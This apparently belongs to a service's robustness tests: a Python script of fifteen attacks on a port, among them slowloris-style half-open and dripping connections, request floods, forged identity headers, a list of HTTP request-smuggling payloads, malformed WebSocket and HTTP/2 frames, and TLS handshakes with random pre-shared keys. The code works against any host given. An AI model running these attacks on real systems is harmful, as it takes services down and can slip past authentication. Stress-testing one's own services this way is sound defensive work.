"""What an unauthenticated peer can do to a port: `attacks.py KIND PORT COUNT [HOST [PATH]]`.

Writes "attacking" once the attack is under way, and goes on until its standard input ends. Needs
nothing of the job: no key, no name, no file. siege.py holds jobs against it, on every cluster.
"""

import contextlib
import itertools
import os
import select
import socket
import ssl
import subprocess
import sys
import threading
import time

DRIP_SECONDS = 0.5
HELLO_BEGUN = b"\x16\x03\x01\x01\x00"
# The greeting of a container's holder to the driver of a Spark application: its name, then a nonce.
DRIVER_GREETED = b"muster-spark-1\n\x02c1"
# Headers by which a request falsely claims to be somebody's or to come from elsewhere.
CLAIMS = {"Cookie": "proxy-user=alice; muster=" + "0" * 64, "Authorization": "Bearer " + "0" * 64,
          "X-Forwarded-For": "127.0.0.1", "X-Forwarded-Host": "localhost",
          "X-Forwarded-User": "alice", "X-Remote-User": "alice", "REMOTE_USER": "alice",
          "Via": "1.1 localhost", "Origin": "http://localhost", "X-HTTP-Method-Override": "DELETE"}
# Requests that one server may read as one and another as two, or as something else: name → what is
# between the method and the end of the head, and what follows it.
CODED = "POST /api/session HTTP/1.1\r\nHost: localhost\r\n"
SMUGGLED = {
    "a length and chunks": (CODED + "Content-Length: 6\r\nTransfer-Encoding: chunked", "0\r\n\r\n"),
    "chunks and a length": (CODED + "Transfer-Encoding: chunked\r\nContent-Length: 5", "0\r\n\r\n"),
    "two lengths": (CODED + "Content-Length: 0\r\nContent-Length: 5", ""),
    "a list of lengths": (CODED + "Content-Length: 0, 5", ""),
    "a length with a sign": (CODED + "Content-Length: +5", "hello"),
    "a negative length": (CODED + "Content-Length: -1", ""),
    "a length of 2^64": (CODED + "Content-Length: 18446744073709551616", ""),
    "a length in hexadecimal": (CODED + "Content-Length: 0x5", "hello"),
    "an unknown coding": (CODED + "Transfer-Encoding: xchunked", "0\r\n\r\n"),
    "a coding besides chunks": (CODED + "Transfer-Encoding: gzip, chunked", "0\r\n\r\n"),
    "two codings": (CODED + "Transfer-Encoding: chunked\r\nTransfer-Encoding: x", "0\r\n\r\n"),
    "a blank before the colon": (CODED + "Transfer-Encoding : chunked", "0\r\n\r\n"),
    "a tabulator for a blank": (CODED + "Transfer-Encoding:\x0bchunked", "0\r\n\r\n"),
    "chunks with bare line feeds": (CODED + "Transfer-Encoding: chunked", "5\nhello\n0\n\n"),
    "a chunk without a number": (CODED + "Transfer-Encoding: chunked", "0x5\r\nhello\r\n0\r\n\r\n"),
    "a chunk without an end": (CODED + "Transfer-Encoding: chunked", "FFFFFFFFFFFFFFFF0\r\nx\r\n"),
    "lengths behind the last chunk": (CODED + "Transfer-Encoding: chunked",
                                      "0\r\nContent-Length: x y\0\r\n\r\n"),
    "a folded first line": ("GET / HTTP/1.1\r\n Host: localhost", ""),
    "bare line feeds": ("GET / HTTP/1.1\nHost: localhost", ""),
    "a bare carriage return": ("GET / HTTP/1.1\r\nHost: localhost\r\nX: a\rY: b", ""),
    "a NUL": ("GET / HTTP/1.1\r\nHost: localhost\r\nX: a\0b", ""),
    "two hosts": ("GET / HTTP/1.1\r\nHost: localhost\r\nHost: elsewhere", ""),
    "a host of others": ("GET / HTTP/1.1\r\nHost: localhost.elsewhere.org", ""),
    "an address of others": ("GET http://elsewhere.org/ HTTP/1.1\r\nHost: localhost", ""),
    "a tunnel": ("CONNECT elsewhere.org:80 HTTP/1.1\r\nHost: localhost", ""),
    "a blank in the path": ("GET /a b HTTP/1.1\r\nHost: localhost", ""),
    "another version": ("GET / HTTP/2.0\r\nHost: localhost", ""),
}
# Requests for another protocol, and what its other end would have to withstand: WebSocket frames
# that are not masked, claim to be longer than memory, continue a message that was never begun, or
# are of an undefined kind; the beginning of HTTP/2.
SOCKET = ("Host: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
          "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==")
UPGRADES = {
    "the front": f"GET / HTTP/1.1\r\n{SOCKET}",
    "the status": f"GET /api/status HTTP/1.1\r\n{SOCKET}",
    "an endpoint": f"GET /endpoints/notebook/ws HTTP/1.1\r\n{SOCKET}",
    "TensorBoard": f"GET /tensorboard/ws HTTP/1.1\r\n{SOCKET}",
    "an upgrade of a POST": f"POST /api/session HTTP/1.1\r\nContent-Length: 3\r\n{SOCKET}",
    "HTTP/2": "GET / HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade, HTTP2-Settings\r\n"
              "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
    "HTTP/2 at once": "PRI * HTTP/2.0",
}
FRAMES = {
    "not masked": b"\x81\x05hello",
    "longer than memory": b"\x82\xff\x7f\xff\xff\xff\xff\xff\xff\xff" + b"abcd" + b"x" * 5000,
    "a piece of nothing": b"\x00\x85abcdhello" * 100,
    "without an end": b"\x01\x85abcdhello" + b"\x00\x80abcd" * 5000,
    "a long ping": b"\x89\xfe\xff\xff" + b"abcd" + b"x" * 65535,
    "of no kind": b"\xff\x80abcd",
    "HTTP/2": b"SM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00" * 1000,
}
IDENTITIES = ("owner", "viewer", "agent:c1", "master:c1", "nobody")


def connect(address):
    peer = socket.socket()
    peer.settimeout(10)
    peer.connect(address)
    return peer


def hold(address, count, said):
    """Keeps `count` connections open that send just that; reopens those that are closed. If `said`
    is a list, each sends one of its entries, a byte more every DRIP_SECONDS.
    """
    held, poller = {}, select.poll()
    opened, started, due = 0, False, 0.0
    begun = itertools.cycle(said if isinstance(said, list) else [said])
    while True:
        for _ in range(min(200, count - len(held))):
            peer = socket.socket()
            peer.setblocking(False)
            peer.connect_ex(address)
            held[peer.fileno()] = peer
            opened += 1
            poller.register(peer, select.POLLIN | select.POLLOUT | select.POLLHUP)
        for descriptor, event in poller.poll(20):
            if event & (select.POLLIN | select.POLLHUP | select.POLLERR):
                poller.unregister(descriptor)
                held.pop(descriptor).close()
            elif event & select.POLLOUT:
                poller.modify(descriptor, select.POLLIN | select.POLLHUP)
                if first := next(begun):
                    with contextlib.suppress(OSError):  # Closed meanwhile, which is noticed below.
                        held[descriptor].send(first)
        if isinstance(said, list) and time.monotonic() > due:
            due = time.monotonic() + DRIP_SECONDS
            for peer in held.values():
                with contextlib.suppress(OSError):  # Not connected yet, or closed.
                    peer.send(b"a")
        if not started and opened >= count:
            started = True
            yield


def silent(address, count):
    """Half-open connections that send nothing."""
    yield from hold(address, count, b"")


def half_proof(address, count):
    """Half-open connections that greet the driver of a Spark application but prove nothing."""
    yield from hold(address, count, DRIVER_GREETED)


def half_hello(address, count):
    """Half-open connections that begin a handshake and stop after five bytes."""
    yield from hold(address, count, HELLO_BEGUN)


def half_handshake(address, count):
    """Half-open connections that send a whole hello, and nothing after it."""
    hello = ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), hello,
                                                   server_hostname="localhost")
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    yield from hold(address, count, hello.read())


def half_request(address, count):
    """Half-open connections that begin a request to the page."""
    yield from hold(address, count, b"GET / HTTP/1.1\r\nX: ")


def all_but_its_last_byte(length):
    """Returns a request with the longest head that is accepted and a body of that length."""
    head = f"POST /api/session HTTP/1.1\r\nHost: localhost\r\nContent-Length: {length}\r\n"
    filled = "".join(f"X-{each}: {'a' * 1000}\r\n" for each in range(12))
    return f"{head}{filled}\r\n{'a' * (length - 1)}".encode()


def half_body(address, count):
    """Half-open connections that send the longest accepted request except for its last byte."""
    yield from hold(address, count, all_but_its_last_byte(65536))


def half_token(address, count):
    """The same with no larger a body than anybody may send."""
    yield from hold(address, count, all_but_its_last_byte(4096))


def pipelined(address, count):
    """Connections that keep sending requests, and read what comes."""
    request = b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n" * 200

    def flood():
        while True:
            try:
                with connect(address) as peer:
                    reader = threading.Thread(target=drain, args=(peer,), daemon=True)
                    reader.start()
                    while True:
                        peer.sendall(request)
            except OSError:
                pass

    yield from in_threads(flood, min(count, 8))


def drain(peer):
    try:
        while peer.recv(1 << 20):
            pass
    except OSError:
        pass


def unread(address, count):
    """Connections that ask for a lot and read none of it."""
    held = []
    for _ in range(min(count, 200)):
        peer = connect(address)
        peer.setblocking(False)
        try:
            peer.send(b"GET /app.js HTTP/1.1\r\nHost: localhost\r\n\r\n" * 500)
        except OSError:
            pass
        held.append(peer)
    yield
    threading.Event().wait()


def over_and_over(address, count, texts, then=lambda peer: None):
    """Sends each text on a connection of its own, then calls the function that follows, in up to 8
    threads."""
    def flood():
        while True:
            for text in texts:
                try:
                    with connect(address) as peer:
                        peer.sendall(text)
                        then(peer)
                except OSError:
                    pass

    yield from in_threads(flood, min(count, 8))


def garbage(address, count):
    """Complete messages that no party of the job would send, one connection after the other."""
    texts = [b"\x16\x03\x01\x00\x40" + os.urandom(64), b"\x16\x03\x01\xff\xff" + b"a" * 70000,
             b"\0" * 5000, b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
             + (b"1;" + b"x" * 4000 + b"\r\na\r\n") * 20, b"GET /" + b"a" * 100000,
             b"GET / HTTP/1.1\r\n" + b"a: b\r\n" * 20000,
             b"GET / HTTP/1.1\r\nHost: localhost\r\nX: " + b"a" * 200000]

    yield from over_and_over(address, count, texts)


def wrong_key(address, count):
    """Complete handshakes under the names of the job's parties, with keys that nobody has; and
    proofs to the driver of a Spark application that nobody can have made."""
    host, port = address

    def handshakes():
        for name in itertools.cycle(IDENTITIES):
            subprocess.run(
                ["openssl", "s_client", "-connect", f"{host}:{port}", "-tls1_3", "-quiet",
                 "-ciphersuites", "TLS_AES_128_GCM_SHA256", "-psk_identity", name, "-psk",
                 os.urandom(32).hex()],
                stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                check=False)

    def proofs():
        while True:
            try:
                with connect(address) as peer:
                    peer.sendall(DRIVER_GREETED + os.urandom(32))
                    peer.recv(64)
                    peer.sendall(os.urandom(32))
                    peer.recv(64)
            except OSError:
                pass

    yield from in_threads(handshakes, min(count, 2))
    yield from in_threads(proofs, min(count, 2))


def forged(address, count, path="/api/status"):
    """Complete requests that claim to be somebody's, one after the other on many connections."""
    claims = "".join(f"{name}: {value}\r\n" for name, value in CLAIMS.items())
    request = f"GET {path} HTTP/1.1\r\nHost: localhost\r\n{claims}\r\n".encode()

    def ask():
        while True:
            try:
                with connect(address) as peer:
                    while True:
                        peer.sendall(request)
                        if not peer.recv(1 << 16):
                            break
            except OSError:
                pass

    yield from in_threads(ask, min(count, 8))


def drip(address, count):
    """Connections that send a byte of a hello, a request or a greeting now and then, but never the
    last."""
    begun = [HELLO_BEGUN, DRIVER_GREETED, b"GET / HTTP/1.1\r\nX: ",
             b"POST /api/session HTTP/1.1\r\nHost: localhost\r\nContent-Length: 60000\r\n\r\n"]
    yield from hold(address, min(count, 600), begun)


def smuggled(address, count):
    """Requests that two servers may read differently, each followed by another one."""
    texts = [f"{head}\r\n\r\n{body}GET /api/status HTTP/1.1\r\n\r\n".encode("latin-1")
             for head, body in SMUGGLED.values()]

    yield from over_and_over(address, count, texts, drain)


def upgraded(address, count):
    """Requests to speak something other than HTTP/1.1, followed by that something."""
    texts = [f"{head}\r\n\r\n".encode() + frames
             for head in UPGRADES.values() for frames in FRAMES.values()]

    def end_and_drain(peer):
        peer.shutdown(socket.SHUT_WR)
        drain(peer)

    yield from over_and_over(address, count, texts, end_and_drain)


def in_threads(work, count):
    for _ in range(count):
        threading.Thread(target=work, daemon=True).start()
    yield


KINDS = {attack.__name__: attack
         for attack in (silent, half_hello, half_handshake, half_request, half_body, half_token,
                        half_proof, pipelined, unread, garbage, wrong_key, forged, drip, smuggled,
                        upgraded)}


def main(kind, port, count, host="127.0.0.1", *path):
    def ends_with_input():
        sys.stdin.read()
        os._exit(0)

    threading.Thread(target=ends_with_input, daemon=True).start()
    for times, _ in enumerate(KINDS[kind]((host, int(port)), int(count), *path)):
        if times == 0:
            print("attacking", flush=True)
    threading.Event().wait()


if __name__ == "__main__":
    main(*sys.argv[1:])
